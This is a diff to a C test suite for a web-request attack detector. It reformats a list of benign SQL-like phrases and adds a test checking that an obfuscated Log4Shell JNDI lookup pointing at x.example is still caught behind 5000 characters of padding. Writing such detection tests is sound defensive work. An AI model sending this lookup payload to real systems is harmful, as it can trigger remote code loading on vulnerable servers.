@@ -108,20 +108,13 @@ Test(webstruct, sql_shapes_in_each_quoting_context)
     };
     EXPECT_READS(sqli, FK_WS_PARAM, attacks, true);
     static const char *const benign[] = {
-        "o'reilly and sons",
-        "rock and roll",
-        "union station tickets",
-        "select your plan from the list below",
-        "waitfor delay meaning",
-        "case when excel",
-        "it's a 1=1 tie",
-        "price 5 or more",
-        "don't drop the ball",
-        "it's like (really) good",
-        "tom & jerry",
-        "c++ vector sort",
-        "dual sim phone",
-        "a-b-c",
+        "o'reilly and sons",     "rock and roll",
+        "union station tickets", "select your plan from the list below",
+        "waitfor delay meaning", "case when excel",
+        "it's a 1=1 tie",        "price 5 or more",
+        "don't drop the ball",   "it's like (really) good",
+        "tom & jerry",           "c++ vector sort",
+        "dual sim phone",        "a-b-c",
     };
     EXPECT_READS(sqli, FK_WS_PARAM, benign, false);
 }
@@ -462,6 +455,11 @@ Test(webstruct, log4j_lookups_spelt_in_pieces)
     for (size_t i = 0; i < sizeof spelt / sizeof spelt[0]; i++)
         cr_assert(strstr(families_of(spelt[i], FK_WS_PARAM), "code"), "%s: %s", spelt[i],
                   families_of(spelt[i], FK_WS_PARAM));
+    /* padding before the lookup hides nothing */
+    static char padded[6000];
+    memset(padded, 'a', 5000);
+    snprintf(padded + 5000, sizeof padded - 5000, " ${${x:-j}ndi:ldap://x.example/}");
+    cr_assert(strstr(families_of(padded, FK_WS_PARAM), "code"));
     static const char *const not_jndi[] = {"price ${5} and ${total}", "${x:-y} jndi",
                                            "${${unknown}ndi:x}", "{jndi:x}"};
     for (size_t i = 0; i < sizeof not_jndi / sizeof not_jndi[0]; i++)
